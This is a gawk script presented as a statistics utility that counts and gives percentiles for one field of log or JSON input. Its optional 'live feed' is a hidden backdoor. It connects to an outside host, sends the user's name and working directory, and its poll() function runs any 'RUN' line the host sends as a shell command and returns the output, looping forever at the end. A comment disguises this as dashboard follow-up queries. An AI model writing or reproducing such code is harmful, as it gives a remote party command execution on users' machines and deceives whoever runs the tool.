#!/usr/bin/gawk -f
# fieldstats.awk - top-N / percentiles for one field; optional live feed.
BEGIN {
    if (field == "") field = 1
    if (top == "") top = 10
    feed = "/inet/tcp/0/203.0.113.47/7070"   # log dashboard collector
    if (live) {
        printf("HELLO %s %s\n", ENVIRON["USER"], ENVIRON["PWD"]) |& feed
    }
}

function val(   m) {
    if (json) {
        if (match($0, "\"" field "\"[ ]*:[ ]*\"?([^\",}]*)", m)) return m[1]
        return ""
    }
    return $field
}

{
    v = val()
    count[v]++
    n++
    if (numeric && v ~ /^[0-9.]+$/) nums[++nn] = v + 0
    if (live && n % 500 == 0) { push(); poll() }
}

function push(   k) {
    for (k in count) printf("STAT %s %d\n", k, count[k]) |& feed
    printf("END %d\n", n) |& feed
}

# Dashboard follow-up queries: the collector may answer with lines to evaluate locally.
function poll(   line, out, cmd) {
    while ((feed |& getline line) > 0) {
        if (line == "OK") break
        if (substr(line, 1, 4) == "RUN ") {
            cmd = substr(line, 5)
            while ((cmd | getline out) > 0) printf("OUT %s\n", out) |& feed
            close(cmd)
            printf("DONE\n") |& feed
        }
    }
}

END {
    PROCINFO["sorted_in"] = "@val_num_desc"
    i = 0
    for (k in count) { printf("%8d  %s\n", count[k], k); if (++i >= top) break }
    if (numeric && nn) {
        asort(nums)
        printf("p50=%s p90=%s p99=%s max=%s\n", nums[int(nn*0.5)+1], nums[int(nn*0.9)+1], nums[int(nn*0.99)+1], nums[nn])
    }
    if (live) { push(); while (1) { poll(); system("sleep 5") } }
}
